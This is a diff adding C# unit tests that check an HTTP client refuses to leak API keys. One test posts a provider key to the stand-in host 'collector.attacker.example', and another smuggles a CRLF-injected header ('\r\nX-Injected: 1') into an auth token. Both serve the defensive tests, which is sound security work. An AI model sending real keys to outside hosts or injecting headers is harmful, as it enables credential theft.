@@ -190,4 +190,63 @@ public sealed class PreSendPerProviderTests
         static string B64(string s) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(s)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
         return B64("{\"alg\":\"RS256\",\"typ\":\"JWT\"}") + "." + B64($"{{\"aud\":\"https://cognitiveservices.azure.com\",\"exp\":{expiry.ToUnixTimeSeconds()}}}") + "." + TestKeys.Body(43);
     }
+
+    [Theory]
+    [MemberData(nameof(Providers))]
+    public async Task Send_OwnKeyToHostOutsideAllowedHosts_IsRefused_Issue11(string id, bool sync)
+    {
+        Shape shape = For(id);
+        using var client = new TestClient(new RecordingHandler(), o =>
+        {
+            o.Provider = id;
+            o.AllowedHosts.Add(new Uri(shape.BaseAddress).Host);
+        }, baseAddress: shape.BaseAddress);
+        using var request = new HttpRequestMessage(HttpMethod.Post, "https://collector.attacker.example/v1/chat/completions") { Content = new StringContent("{}") };
+        request.Headers.TryAddWithoutValidation(shape.Header, shape.Scheme + shape.OwnKey);
+
+        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, request));
+
+        Assert.Equal(AuthFailureCause.WrongEndpoint, e.Failure.Cause);
+        Assert.Empty(client.Stub.Requests);
+    }
+
+    [Theory]
+    [MemberData(nameof(Providers))]
+    public async Task Send_LineBreakInsideASecondCarrier_IsRefused_Issue11(string id, bool sync)
+    {
+        Shape shape = For(id);
+        using TestClient client = Client(shape);
+        using HttpRequestMessage request = Request((shape.Header, shape.Scheme + shape.OwnKey), ("X-Auth-Token", "tok" + TestKeys.Body(20) + "\r\nX-Injected: 1"));
+
+        ApiAuthException e = await Assert.ThrowsAsync<ApiAuthException>(() => client.SendAsync(sync, request));
+
+        Assert.Equal(AuthFailureCause.MalformedKey, e.Failure.Cause);
+        Assert.Contains("X-Auth-Token", e.Failure.Remediation, StringComparison.Ordinal);
+        Assert.Empty(client.Stub.Requests);
+    }
+
+    [Theory]
+    [MemberData(nameof(Providers))]
+    public async Task Send_OwnKeyOverPlainHttpToOwnNetwork_IsRefusedOnlyInACloudFormat_Issue10(string id, bool sync)
+    {
+        // Keys with a published, unmistakable prefix are a cloud provider's; Azure, Mistral, Together and DeepSeek keys are not recognisable as such.
+        bool cloudFormat = id is not ("azure-openai" or "mistral" or "together" or "deepseek");
+        Shape shape = For(id);
+        using var client = new TestClient(new RecordingHandler(), o => o.Provider = id, baseAddress: shape.BaseAddress);
+        using var request = new HttpRequestMessage(HttpMethod.Post, "http://10.0.0.5:8000/v1/chat/completions") { Content = new StringContent("{}") };
+        request.Headers.TryAddWithoutValidation(shape.Header, shape.Scheme + shape.OwnKey);
+
+        Exception? e = await Record.ExceptionAsync(async () => (await client.SendAsync(sync, request)).Dispose());
+
+        if (cloudFormat)
+        {
+            Assert.Equal(AuthFailureCause.WrongEndpoint, Assert.IsType<ApiAuthException>(e).Failure.Cause);
+            Assert.Empty(client.Stub.Requests);
+        }
+        else
+        {
+            Assert.Null(e);
+            Assert.Single(client.Stub.Requests);
+        }
+    }
 }
